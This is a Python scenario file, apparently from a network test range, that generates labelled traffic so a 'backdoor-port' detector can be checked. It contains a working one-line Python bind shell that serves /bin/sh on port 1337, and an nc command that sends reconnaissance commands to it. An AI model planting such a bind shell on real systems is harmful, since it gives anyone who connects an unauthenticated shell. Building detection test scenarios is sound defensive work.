"""A shell with a terminal, given by Python to whoever connects to port 1337."""

from lab.range import Range
from lab.scenario import Scenario

BIND = "import os,pty,socket as s;l=s.create_server(('',1337));c,_=l.accept();"
BIND += "[os.dup2(c.fileno(),n) for n in (0,1,2)];pty.spawn('/bin/sh')"
ORDERS = "for order in id 'uname -s' 'ls /run' 'ip -4 address' exit; do sleep 2; echo $order; done; sleep 1"


def run(net: Range) -> None:
    victim, attacker = net.inside("files"), net.inside("attacker")
    net.everyday()
    net.loop(attacker, f"curl -s -m 3 -o /dev/null http://{net.web().ip}/", 1.2)
    victim.start("/usr/bin/python3", "-c", BIND)
    net.quiet(1)
    with net.attack(
        "backdoor-port",
        by=attacker,
        victims=[victim],
        others={"client": [attacker], "server": [victim]},
        frames=f"tcp and dst host {victim.ip} and dst port 1337",
        responses=f"tcp and src host {victim.ip} and src port 1337",
    ):
        net.tool(attacker, "sh", "-c", f"({ORDERS}) | nc {victim.ip} 1337", seconds=14)
    net.quiet(2)


SCENARIO = Scenario(
    name="backdoor-port-held-1337",
    about="An inside host connects to a shell at port 1337 of a file server and types five commands.",
    detectors=("backdoor-port",),
    tools={"nc": "ncat"},
    snap_octets=250,
    run=run,
)
